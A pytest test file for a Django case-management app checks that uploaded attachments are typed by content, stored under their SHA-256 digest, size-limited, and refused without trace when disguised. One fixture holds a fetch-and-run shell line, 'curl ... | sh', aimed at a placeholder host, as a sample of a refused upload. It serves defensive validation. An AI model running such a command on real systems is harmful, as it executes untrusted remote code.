"""Attachments are judged by their content and size; a refused file leaves no trace."""

from __future__ import annotations

import hashlib
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest

from backoffice.errors import DomainError
from cases import services
from cases.models import CaseAttachment, CaseEvent, EventKind

from .factories import CaseFactory

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 17
TEXT = "Pole P-17 leans towards the road. Señal rota.\n".encode()
WINDOWS_EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 100 + b"This program"
ELF_BINARY = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns='
            '"http://schemas.openxmlformats.org/package/2006/content-types"/>',
        )
        archive.writestr(
            "word/document.xml",
            '<?xml version="1.0"?><w:document xmlns:w='
            '"http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
        )
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.exe", WINDOWS_EXECUTABLE)
    return buffer.getvalue()


@pytest.fixture
def media(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def case(agency: Any) -> Any:
    return CaseFactory(agency=agency)


def attach(case: Any, content: bytes, name: str, actor: Any) -> CaseAttachment:
    return services.case_add_attachment(
        case=case, upload=io.BytesIO(content), name=name, size=len(content), actor=actor
    )


def stored_files(media: Path) -> list[Path]:
    return [path for path in media.rglob("*") if path.is_file()]


@pytest.mark.parametrize(
    ("content", "name", "content_type"),
    [
        (PDF, "photo-report.pdf", "application/pdf"),
        (PNG, "lamp.png", "image/png"),
        (TEXT, "notes.txt", "text/plain"),
        (docx(), "letter.docx", DOCX_TYPE),
    ],
    ids=["pdf", "png", "text", "docx"],
)
def test_an_accepted_file_is_stored_under_its_digest_with_a_timeline_event(
    case: Any,
    caseworker: Any,
    media: Path,
    content: bytes,
    name: str,
    content_type: str,
) -> None:
    attachment = attach(case, content, name, caseworker)

    digest = hashlib.sha256(content).hexdigest()
    assert attachment.content_type == content_type
    assert (attachment.original_name, attachment.size, attachment.sha256) == (
        name,
        len(content),
        digest,
    )
    assert attachment.uploaded_by == caseworker
    [stored] = stored_files(media)
    assert stored.read_bytes() == content
    assert stored.name == digest
    assert name not in str(stored)
    [event] = case.events.all()
    assert event.kind == EventKind.ATTACHMENT
    assert event.data == {"attachment": attachment.pk, "type": content_type, "size": len(content)}
    assert not event.public


def test_the_type_comes_from_the_content_not_the_name(
    case: Any, caseworker: Any, media: Path
) -> None:
    attachment = attach(case, PNG, "scan", caseworker)

    assert attachment.content_type == "image/png"
    assert attachment.original_name == "scan.png"


REFUSED = {
    "empty": (b"", "empty.pdf"),
    "windows executable named pdf": (WINDOWS_EXECUTABLE, "invoice.pdf"),
    "elf binary": (ELF_BINARY, "photo.png"),
    "shell script": (SHELL_SCRIPT, "readme.txt"),
    "zip that is not an office document": (plain_zip(), "report.docx"),
    "binary that is not text": (b"\x00\x01\x02\x03" * 64, "data.txt"),
}


@pytest.mark.parametrize(("content", "name"), REFUSED.values(), ids=REFUSED.keys())
def test_a_refused_file_leaves_no_row_no_event_and_no_file(
    case: Any, caseworker: Any, media: Path, content: bytes, name: str
) -> None:
    with pytest.raises(DomainError) as error:
        attach(case, content, name, caseworker)

    assert error.value.field == "file"
    assert not CaseAttachment.objects.exists()
    assert not CaseEvent.objects.exists()
    assert stored_files(media) == []


def test_a_file_over_the_size_limit_is_refused(
    case: Any, caseworker: Any, media: Path, settings: Any
) -> None:
    settings.ATTACHMENT_MAX_BYTES = 1024

    with pytest.raises(DomainError) as error:
        attach(case, b"a" * 1025, "long.txt", caseworker)

    assert error.value.field == "file"
    assert "MB" in error.value.message
    assert not CaseAttachment.objects.exists()
    assert not CaseEvent.objects.exists()
    assert stored_files(media) == []
    assert attach(case, b"a" * 1024, "just-fits.txt", caseworker).size == 1024


def test_text_cut_in_the_middle_of_a_character_is_still_text(
    case: Any, caseworker: Any, media: Path
) -> None:
    # The sniffer reads the first 8 KiB; here that sample ends inside a two-byte character.
    content = b"a" * 8191 + "ñ".encode() + b" more text"

    assert attach(case, content, "long.txt", caseworker).content_type == "text/plain"


def test_the_same_file_twice_is_two_attachments(case: Any, caseworker: Any, media: Path) -> None:
    first = attach(case, PDF, "a.pdf", caseworker)
    second = attach(case, PDF, "b.pdf", caseworker)

    assert first.sha256 == second.sha256
    assert first.file.name != second.file.name
    assert len(stored_files(media)) == 2


def test_the_size_is_measured_on_the_file_not_taken_from_the_caller(settings: Any) -> None:
    from cases.files import check_upload

    settings.ATTACHMENT_MAX_BYTES = 1024
    with pytest.raises(DomainError, match="limit"):
        check_upload(io.BytesIO(b"a" * 4096), size=10)
